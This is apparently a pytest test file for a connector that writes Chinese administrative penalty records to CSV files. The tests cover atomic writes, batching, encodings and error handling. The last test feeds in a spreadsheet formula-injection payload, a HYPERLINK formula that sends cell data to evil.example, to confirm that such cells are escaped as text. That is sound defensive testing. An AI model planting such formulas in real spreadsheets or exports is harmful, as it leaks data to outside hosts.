"""push: penalty changes become 双公示 CSV files in outbound, written atomically."""

from __future__ import annotations

import errno
import os
import re
from pathlib import Path
from typing import Any

import pytest

from connectors.base import PushResult
from connectors.errors import ConnectorConfigError
from connectors.filedrop import FileDropConnector
from tests.connectors.filedrop.support import (
    CODES,
    EXTRA,
    ID_NUMBER,
    MASKED,
    ORG_USCC,
    business_record,
    connector,
    csv_rows,
    item,
    listing,
    org_record,
    person_record,
)

NAME = re.compile(r"\d{8}T\d{12}_(.+)_(.+)\.csv")


def only_file(folder: Path) -> Path:
    names = listing(folder)
    assert len(names) == 1, names
    return folder / names[0]


def test_push_writes_exact_sgs_rows(tmp_path: Path) -> None:
    c = connector(tmp_path)
    results = c.push([item("c1", org_record()), item("c2", business_record(), op="revoke")])
    assert results == [PushResult("c1", True), PushResult("c2", True)]
    path = only_file(c.outbound)
    match = NAME.fullmatch(path.name)
    assert match is not None
    assert match.groups() == ("c1", "c2")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # utf-8-sig: Excel reads it as UTF-8
    header, rows = csv_rows(path)
    assert header == CODES + EXTRA
    empty = dict.fromkeys(header, "")
    assert rows[0] == {
        **empty,
        "CF_XDR_MC": "呼伦贝尔某某建设有限公司",
        "CF_XDR_LB": "法人及非法人组织",
        "CF_XDR_SHXYM": ORG_USCC,
        "CF_FRDB": "张三",
        "CF_FR_ZJLX": "身份证",
        "CF_FR_ZJHM": "",  # the feed only has the masked number: not written as if it were one
        "CF_WSH": "呼住建罚〔2024〕12号",
        "CF_WFXW": "违法分包",
        "CF_SY": "将承包的工程违法分包给不具备资质的单位",
        "CF_YJ": "《建设工程质量管理条例》第六十二条",
        "CF_CFLB": "警告;罚款",
        "CF_NR": "警告,罚款2000元",
        "CF_NR_FK": "0.2",
        "CF_JDRQ": "2024-03-01",
        "CF_YXQ": "2025-03-01",
        "CF_CFJG": "呼伦贝尔市住房和城乡建设局",
        "CF_CFJGDM": "11230500001755309F",
        "CF_SJLY": "呼伦贝尔市公共资源交易中心",
        "CF_SJLYDM": "11230500001755309F",
        "OP": "upsert",
        "ORIGIN_HUB": "hlbe",
        "ORIGIN_ID": "rec-1",
        "ORIGIN_VERSION": "3",
        "CURSOR": "c1",
    }
    assert rows[1] == {
        **rows[0],
        "CF_XDR_MC": "海拉尔区某某建材店",
        "CF_XDR_LB": "个体工商户",
        "CF_XDR_SHXYM": "",
        "CF_XDR_GSZC": "150702600012345",
        "CF_XDR_SWDJ": "150702123456789",
        "CF_FRDB": "",
        "CF_FR_ZJLX": "",
        "CF_WSH": "呼住建罚〔2024〕14号",
        "CF_CFLB": "没收违法所得;暂扣许可证件",
        "CF_NR": "没收违法所得,暂扣许可证",
        "CF_NR_FK": "",
        "CF_NR_WFFF": "1.234567",
        "CF_NR_ZKDX": "建筑业企业资质证书 D315012345",
        "CF_YXQ": "长期",  # required by the format; the parser reads it back as "no end date"
        "CF_GSJZQ": "2027-03-01",
        "BZ": "备注",
        "OP": "revoke",
        "ORIGIN_ID": "rec-3",
        "ORIGIN_VERSION": "2",
        "CURSOR": "c2",
    }


def test_source_defaults_to_the_authority(tmp_path: Path) -> None:
    c = connector(tmp_path)
    assert c.push([item("c1", org_record(source=None))])[0].ok
    _, rows = csv_rows(only_file(c.outbound))
    assert (rows[0]["CF_SJLY"], rows[0]["CF_SJLYDM"]) == (
        "呼伦贝尔市住房和城乡建设局",
        "11230500001755309F",
    )


def test_person_id_in_clear_in_the_file_but_never_in_an_error(tmp_path: Path) -> None:
    c = connector(tmp_path)
    future = person_record("呼住建罚〔2024〕99号", decided_on="2999-01-01")
    bad_fine = person_record("呼住建罚〔2024〕98号", fine_yuan=ID_NUMBER + "元")
    no_type = person_record("呼住建罚〔2024〕97号")
    no_type["subject"]["type"] = "robot"
    results = c.push(
        [item("c1", person_record()), item("c2", future), item("c3", bad_fine), item("c4", no_type)]
    )
    assert [r.ok for r in results] == [True, False, False, False]
    assert not any(r.retriable for r in results)
    assert "CF_JDRQ" in str(results[1].error)
    assert "fine_yuan" in str(results[2].error)
    assert "subject.type" in str(results[3].error)
    for r in results:
        assert ID_NUMBER not in repr(r)
    path = only_file(c.outbound)
    _, rows = csv_rows(path)
    assert len(rows) == 1  # refused changes are not in the file
    assert (rows[0]["CF_XDR_LB"], rows[0]["CF_XDR_ZJLX"], rows[0]["CF_XDR_ZJHM"]) == (
        "自然人",
        "身份证",
        ID_NUMBER,
    )
    assert (rows[0]["CF_NR_FK"], rows[0]["CURSOR"]) == ("0.05", "c1")


def test_masked_id_numbers_are_not_written(tmp_path: Path) -> None:
    c = connector(tmp_path)
    record = person_record()
    record["subject"]["id_number"] = MASKED
    result = c.push([item("c1", record)])[0]
    assert not result.ok  # a person without a usable ID number is not a valid 双公示 row
    assert "CF_XDR_ZJHM" in str(result.error)
    assert listing(c.outbound) == []


def test_batch_size_splits_files_in_cursor_order(tmp_path: Path) -> None:
    c = connector(tmp_path, batch_size=2)
    changes = [item(f"c{i}", org_record(f"罚〔2024〕{i}号")) for i in range(1, 6)]
    assert all(r.ok for r in c.push(changes))
    names = listing(c.outbound)
    assert len(names) == 3
    groups = []
    for name in names:  # name order is writing order
        match = NAME.fullmatch(name)
        assert match is not None
        _, rows = csv_rows(c.outbound / name)
        cursors = [row["CURSOR"] for row in rows]
        assert (match.group(1), match.group(2)) == (cursors[0], cursors[-1])
        groups.append(cursors)
    assert groups == [["c1", "c2"], ["c3", "c4"], ["c5"]]
    # a second push sorts after the first
    assert c.push([item("c6", org_record("罚〔2024〕6号"))])[0].ok
    assert listing(c.outbound)[-1].endswith("_c6_c6.csv")


def test_cursors_are_made_safe_for_file_names(tmp_path: Path) -> None:
    c = connector(tmp_path)
    assert c.push([item("a/b:c_d", org_record())])[0].ok
    path = only_file(c.outbound)
    assert path.name.endswith("_a-b-c-d_a-b-c-d.csv")
    assert csv_rows(path)[1][0]["CURSOR"] == "a/b:c_d"


def test_a_reader_never_sees_a_partial_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """At the moment the data is on disk but not yet renamed, list the folder as a reader would."""
    c = connector(tmp_path, batch_size=3)
    seen: list[list[str]] = []
    real_fsync = os.fsync

    def reader_looks(fd: int) -> None:
        real_fsync(fd)
        names = listing(c.outbound)
        finals = [n for n in names if not n.startswith(".")]
        temps = [n for n in names if n.startswith(".")]
        if temps:  # the data file, not the folder
            assert len(temps) == 1
            assert temps[0].endswith(".tmp")
            assert len(finals) == len(seen)  # the file being written has no final name yet
            for name in finals:  # every visible file is complete
                assert len(csv_rows(c.outbound / name)[1]) == 3
            seen.append(finals)

    monkeypatch.setattr(os, "fsync", reader_looks)
    changes = [item(f"c{i}", org_record(f"罚〔2024〕{i}号")) for i in range(1, 7)]
    assert all(r.ok for r in c.push(changes))
    assert len(seen) == 2
    assert [n for n in listing(c.outbound) if n.startswith(".")] == []


def test_non_penalties_are_answered_without_a_file(tmp_path: Path) -> None:
    c = connector(tmp_path)
    changes = [
        item("c1", {**org_record(), "kind": "misconduct"}),
        item("c2", {**org_record(), "kind": "blacklist"}),
        item("c3", {**org_record(), "kind": "commendation"}),
    ]
    assert c.push(changes) == [PushResult(f"c{i}", True) for i in (1, 2, 3)]
    assert listing(c.outbound) == []
    assert c.push([]) == []
    assert c.push([{"cursor": "c9", "op": "upsert", "record": None}])[0].ok is False


def test_read_only_folder_gives_retriable_results(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    c = connector(tmp_path)
    os.chmod(c.outbound, 0o500)
    if os.geteuid() == 0:  # root writes anyway: refuse as the kernel would for anyone else
        real_open = os.open

        def refuse(path: Any, flags: int, *args: Any) -> int:
            if Path(path).parent == c.outbound and flags & os.O_CREAT:
                raise PermissionError(errno.EACCES, "Permission denied", str(path))
            return real_open(path, flags, *args)

        monkeypatch.setattr(os, "open", refuse)
    try:
        results = c.push([item("c1", person_record()), item("c2", {"kind": "commendation"})])
    finally:
        os.chmod(c.outbound, 0o700)
    assert results[0].ok is False
    assert results[0].retriable is True
    assert "Permission denied" in str(results[0].error)
    assert ID_NUMBER not in str(results[0].error)
    assert results[1] == PushResult("c2", True)
    assert listing(c.outbound) == []


def test_full_disk_cleans_up_and_later_batches_wait(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    c = connector(tmp_path, batch_size=1)
    assert c.push([item("c0", org_record("罚〔2024〕0号"))])[0].ok
    before = listing(c.outbound)
    real_fsync = os.fsync
    calls = []

    def full(fd: int) -> None:
        calls.append(fd)
        if len(calls) == 3:  # file 1 and its folder pass, file 2 hits a full disk
            raise OSError(errno.ENOSPC, "No space left on device")
        real_fsync(fd)

    monkeypatch.setattr(os, "fsync", full)
    changes = [item(f"c{i}", org_record(f"罚〔2024〕{i}号")) for i in (1, 2, 3)]
    results = c.push(changes)
    assert [(r.ok, r.retriable) for r in results] == [(True, False), (False, True), (False, True)]
    assert "No space left" in str(results[1].error)
    assert "earlier file" in str(results[2].error)
    after = listing(c.outbound)
    assert len(after) == len(before) + 1  # file 1 only: no temp file, no partial file 2
    assert not any(n.startswith(".") for n in after)


def test_missing_outbound_is_retriable_and_not_created(tmp_path: Path) -> None:
    c = connector(tmp_path)
    c.outbound.rmdir()
    result = c.push([item("c1", org_record())])[0]
    assert (result.ok, result.retriable) == (False, True)
    assert not c.outbound.exists()


def test_gb18030_encoding(tmp_path: Path) -> None:
    c = connector(tmp_path, encoding="gb18030")
    record = org_record()
    record["subject"]["name"] = "呼伦贝尔𠀀建设有限公司"  # outside GBK: needs GB18030's 4 bytes
    assert c.push([item("c1", record)])[0].ok
    path = only_file(c.outbound)
    with pytest.raises(UnicodeDecodeError):
        path.read_bytes().decode("utf-8")
    _, rows = csv_rows(path, "gb18030")
    assert rows[0]["CF_XDR_MC"] == "呼伦贝尔𠀀建设有限公司"


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"encoding": "latin-1"}, "encoding must be one of"),
        ({"batch_size": 0}, "batch_size must be at least 1"),
        ({"batch_size": "10"}, "batch_size must be int"),
        ({"hub_id": ""}, "hub_id must not be empty"),
        ({"folder": "x"}, "unknown key"),
    ],
)
def test_configuration_is_checked(tmp_path: Path, options: dict[str, Any], message: str) -> None:
    with pytest.raises(ConnectorConfigError, match=message):
        connector(tmp_path, **options)


def test_configuration_defaults_and_folders(tmp_path: Path) -> None:
    c = connector(tmp_path)
    assert (c.config["encoding"], c.config["batch_size"], c.hub_id) == (
        "utf-8-sig",
        1000,
        "filedrop:dept",
    )
    assert connector(tmp_path, hub_id="nmg").hub_id == "nmg"
    with pytest.raises(ConnectorConfigError, match="missing required key 'inbound'"):
        FileDropConnector({"name": "x", "type": "filedrop", "outbound": str(tmp_path)})
    with pytest.raises(ConnectorConfigError, match="must differ"):
        FileDropConnector(
            {"name": "x", "type": "filedrop", "outbound": str(tmp_path), "inbound": str(tmp_path)}
        )


def test_files_are_private_and_their_cells_never_run_as_formulas(tmp_path: Path) -> None:
    c = connector(tmp_path)
    formula = org_record(facts='=HYPERLINK("http://evil.example/?"&A1,"查看")', violation="+1-2")
    assert c.push([item("c1", formula)]) == [PushResult("c1", True)]
    path = only_file(c.outbound)
    assert path.stat().st_mode & 0o777 == 0o640  # the owner writes, the exchange's group reads
    _, [row] = csv_rows(path)
    # Shown by a spreadsheet as the text it is, with nothing else changed.
    assert row["CF_SY"] == '\'=HYPERLINK("http://evil.example/?"&A1,"查看")'
    assert row["CF_WFXW"] == "'+1-2"
    assert row["CF_JDRQ"] == "2024-03-01"  # a date is no formula
